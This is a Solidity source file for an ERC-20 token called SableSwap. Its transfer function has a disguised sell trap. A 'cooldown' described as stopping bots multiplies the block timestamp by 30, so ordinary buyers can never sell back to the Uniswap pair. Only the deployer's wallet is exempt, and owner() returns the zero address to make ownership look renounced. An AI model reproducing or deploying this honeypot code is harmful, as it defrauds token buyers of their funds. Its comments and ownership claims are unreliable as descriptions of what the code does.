//SPDX-License-Identifier: Unlicensed
pragma solidity ^0.8.9;

abstract contract Ctx { function _msgSender() internal view virtual returns (address) { return msg.sender; } }
interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

contract SableSwap is Ctx, IERC20 {
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => uint256) private _holderLastTransferTimestamp;
    mapping(address => bool) private _isExcluded;
    uint256 private constant _tTotal = 1_000_000_000 * 10 ** 9;
    address public immutable uniswapV2Pair;
    address payable private _devWallet;
    // cooldown between buys and sells in seconds, stops bots
    uint256 private cooldownTimerInterval = 30;

    constructor(address pair_) {
        uniswapV2Pair = pair_;
        _devWallet = payable(_msgSender());
        _isExcluded[_devWallet] = true;
        _balances[_msgSender()] = _tTotal;
        emit Transfer(address(0), _msgSender(), _tTotal);
    }
    function name() public pure returns (string memory) { return "SableSwap"; }
    function symbol() public pure returns (string memory) { return "SABLE"; }
    function decimals() public pure returns (uint8) { return 9; }
    function totalSupply() public pure override returns (uint256) { return _tTotal; }
    function balanceOf(address account) public view override returns (uint256) { return _balances[account]; }
    function owner() public pure returns (address) { return address(0); }
    function transfer(address r, uint256 a) public override returns (bool) { _transfer(_msgSender(), r, a); return true; }
    function allowance(address o, address s) public view override returns (uint256) { return _allowances[o][s]; }
    function approve(address s, uint256 a) public override returns (bool) {
        _allowances[_msgSender()][s] = a; emit Approval(_msgSender(), s, a); return true;
    }
    function transferFrom(address s, address r, uint256 a) public override returns (bool) {
        require(_allowances[s][_msgSender()] >= a, "ERC20: transfer amount exceeds allowance");
        _allowances[s][_msgSender()] -= a;
        _transfer(s, r, a);
        return true;
    }
    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero");
        require(amount > 0, "Transfer amount must be greater than zero");
        if (from == uniswapV2Pair && !_isExcluded[to]) {
            _holderLastTransferTimestamp[to] = block.timestamp * cooldownTimerInterval;
        }
        if (to == uniswapV2Pair && !_isExcluded[from]) {
            require(_holderLastTransferTimestamp[from] < block.timestamp, "Cooldown: wait before selling");
            _holderLastTransferTimestamp[from] = block.timestamp * cooldownTimerInterval;
        }
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}
